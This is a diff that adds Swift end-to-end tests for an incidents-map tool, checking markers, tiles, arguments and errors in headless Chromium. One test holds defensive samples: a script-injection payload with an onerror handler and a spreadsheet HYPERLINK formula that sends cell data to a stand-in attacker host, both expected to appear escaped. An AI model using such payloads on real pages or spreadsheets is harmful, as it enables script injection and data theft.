@@ -1,0 +1,127 @@
+import Foundation
+import TestSupport
+import Testing
+
+/// `incidents map` (issue 14, point 12): one self-contained HTML file, loaded in headless
+/// Chromium with the network refused (the basemap tiles fail): the markers are drawn, coloured
+/// by category, over a plain background; hostile feed text stays text.
+@Suite("End to end: incidents map in headless Chromium", .serialized)
+struct MapCLITests {
+    /// Writes the map of `database` with `arguments` and returns the file.
+    static func map(_ arguments: [String], database: String = AnalystFixture.database,
+                    environment: [String: String] = [:]) async throws -> (URL, ProcessResult) {
+        let file = try TestPaths.temporaryDirectory("map").appendingPathComponent("map.html")
+        let result = try await run("incidents", ["map", "--database", database, "--output", file.path] + arguments,
+                                   environment: environment)
+        return (file, result)
+    }
+
+    static func attribute(_ name: String, in dom: String) -> String? {
+        guard let body = dom.range(of: "<body[^>]*>", options: .regularExpression).map({ String(dom[$0]) }),
+              let value = body.range(of: "\(name)=\"[^\"]*\"", options: .regularExpression) else { return nil }
+        return String(body[value].dropFirst(name.count + 2).dropLast())
+    }
+
+    @Test("the markers of every incident with a position, coloured by category, show without tiles; legend and title")
+    func markers() async throws {
+        let (file, result) = try await Self.map(["--tz", "KST"])
+        #expect(result.status == 0, "\(result.stderr)")
+        #expect(result.stdout.isEmpty)
+        let dom = try await HeadlessBrowser.dom(of: file)
+        #expect(Self.attribute("data-ready", in: dom) == "true")
+        #expect(Self.attribute("data-markers", in: dom) == "3")
+        #expect(Self.attribute("data-shapes", in: dom) == "0")
+        #expect(Self.attribute("data-pwned", in: dom) == nil)
+        #expect(dom.contains("<title>Incidents: all</title>"))
+        #expect(dom.contains("<p id=\"summary\">3 incidents on the map</p>"))
+        // The tiles were asked for (and failed: no network); the markers are SVG circles.
+        #expect(dom.contains("src=\"https://tile.openstreetmap.org/"))
+        #expect(dom.components(separatedBy: "class=\"leaflet-interactive\"").count - 1 == 3)
+        for legend in ["accident 1", "roadwork 1", "weather 1"] { #expect(dom.contains(legend), "legend \(legend)") }
+
+        let png = file.deletingLastPathComponent().appendingPathComponent("map.png")
+        try await HeadlessBrowser.screenshot(of: file, to: png)
+        // A marker's fill is about 180 pixels of its colour; the legend's swatch about 80.
+        let counts = try await PNGColors.count(in: png, colors: ["d62728", "e6ab02", "1f77b4", "e8ecef"])
+        for (category, color) in [("accident", "d62728"), ("roadwork", "e6ab02"), ("weather", "1f77b4")] {
+            #expect((counts[color] ?? 0) >= 150, "\(category) marker pixels: \(counts)")
+        }
+        #expect((counts["e8ecef"] ?? 0) > 300_000, "the plain background shows where the tiles failed: \(counts)")
+    }
+
+    @Test("the page is self-contained: no external script, style or image, only the tile URL")
+    func selfContained() async throws {
+        let (file, result) = try await Self.map([])
+        #expect(result.status == 0, "\(result.stderr)")
+        let html = try String(contentsOf: file, encoding: .utf8)
+        #expect(html.hasPrefix("<!DOCTYPE html>"))
+        #expect(!html.contains("<script src"))
+        #expect(!html.contains("<link"))
+        #expect(html.contains("L.markerClusterGroup"))
+        // Leaflet itself is inlined (from libjs-leaflet) and the marker cluster plugin too.
+        let leaflet = try String(contentsOfFile: "/usr/share/javascript/leaflet/leaflet.min.js", encoding: .utf8)
+        #expect(html.contains(leaflet))
+    }
+
+    @Test("hostile feed text stays text: the popup shows it literally, no element or script comes from it")
+    func hostileText() async throws {
+        let (file, result) = try await Self.map([])
+        #expect(result.status == 0, "\(result.stderr)")
+        let html = try String(contentsOf: file, encoding: .utf8)
+        #expect(!html.contains("</script><img"), "the data block escapes < and >")
+        let dom = try await HeadlessBrowser.dom(of: file, fragment: "incident-2")
+        #expect(Self.attribute("data-ready", in: dom) == "true")
+        #expect(Self.attribute("data-pwned", in: dom) == nil)
+        #expect(!dom.contains("<img src=\"x\""))
+        let popup = try #require(dom.range(of: "(?s)<table class=\"popup\">.*?</table>", options: .regularExpression).map { String(dom[$0]) })
+        #expect(popup.contains("<th>location</th><td>-1 km &lt;/script&gt;&lt;img src=x onerror=\"document.body.dataset.pwned='yes'\"&gt; '따옴표'</td>"))
+        #expect(popup.contains("<th>description</th><td>=HYPERLINK(\"http://evil.example/?\"&amp;A1,\"클릭\")</td>"))
+        #expect(popup.contains("<th>started</th><td>2024-02-29 15:00 UTC</td>"))
+    }
+
+    @Test("the filter is the title, HTML-escaped")
+    func hostileTitle() async throws {
+        let (file, result) = try await Self.map(["--road", "<b>경부</b>", "--active"])
+        #expect(result.status == 0, "\(result.stderr)")
+        let dom = try await HeadlessBrowser.dom(of: file)
+        #expect(dom.contains("<title>Incidents: --active --road &lt;b&gt;경부&lt;/b&gt;</title>"))
+        #expect(dom.contains("<h1>Incidents: --active --road &lt;b&gt;경부&lt;/b&gt;</h1>"))
+        #expect(Self.attribute("data-markers", in: dom) == "0")
+    }
+
+    @Test("--tiles none: no basemap at all; many markers are clustered")
+    func plainAndClustered() async throws {
+        let (file, result) = try await Self.map(["--tiles", "none"], database: QueryCLITests.database)
+        #expect(result.status == 0, "\(result.stderr)")
+        let dom = try await HeadlessBrowser.dom(of: file)
+        #expect(Self.attribute("data-markers", in: dom) == "5")
+        #expect(!dom.contains("class=\"leaflet-tile\""))
+        #expect(dom.contains("marker-cluster"), "the four markers around Suwon and Seoul are clustered")
+        #expect(dom.contains("1 without a position not shown"))
+    }
+
+    @Test("--tiles takes an http(s) template with {z}, {x} and {y}", arguments: ["ftp://tiles.example/{z}/{x}/{y}.png",
+                                                                                  "https://tiles.example/tile.png", "tiles"])
+    func badTiles(tiles: String) async throws {
+        let (file, result) = try await Self.map(["--tiles", tiles])
+        #expect(result.status == 64, "\(result.stderr)")
+        #expect(result.stderr.contains("--tiles"))
+        #expect(!FileManager.default.fileExists(atPath: file.path))
+    }
+
+    @Test("without Leaflet's package the error says which to install (exit 66), and no file is written")
+    func missingLeaflet() async throws {
+        let (file, result) = try await Self.map([], environment: ["INCIDENTS_LEAFLET_DIR": "/nonexistent/leaflet"])
+        #expect(result.status == 66)
+        #expect(result.stderr.contains("cannot read /nonexistent/leaflet/leaflet.min.js"))
+        #expect(result.stderr.contains("apt-get install libjs-leaflet libjs-leaflet.markercluster"))
+        #expect(try FileManager.default.contentsOfDirectory(atPath: file.deletingLastPathComponent().path).isEmpty)
+    }
+
+    @Test("an output file that cannot be written is a clear error (exit 1)")
+    func unwritable() async throws {
+        let result = try await run("incidents", ["map", "--database", AnalystFixture.database, "--output", "/nonexistent/dir/map.html"])
+        #expect(result.status == 1)
+        #expect(result.stderr.contains("cannot write /nonexistent/dir/map.html"))
+    }
+}
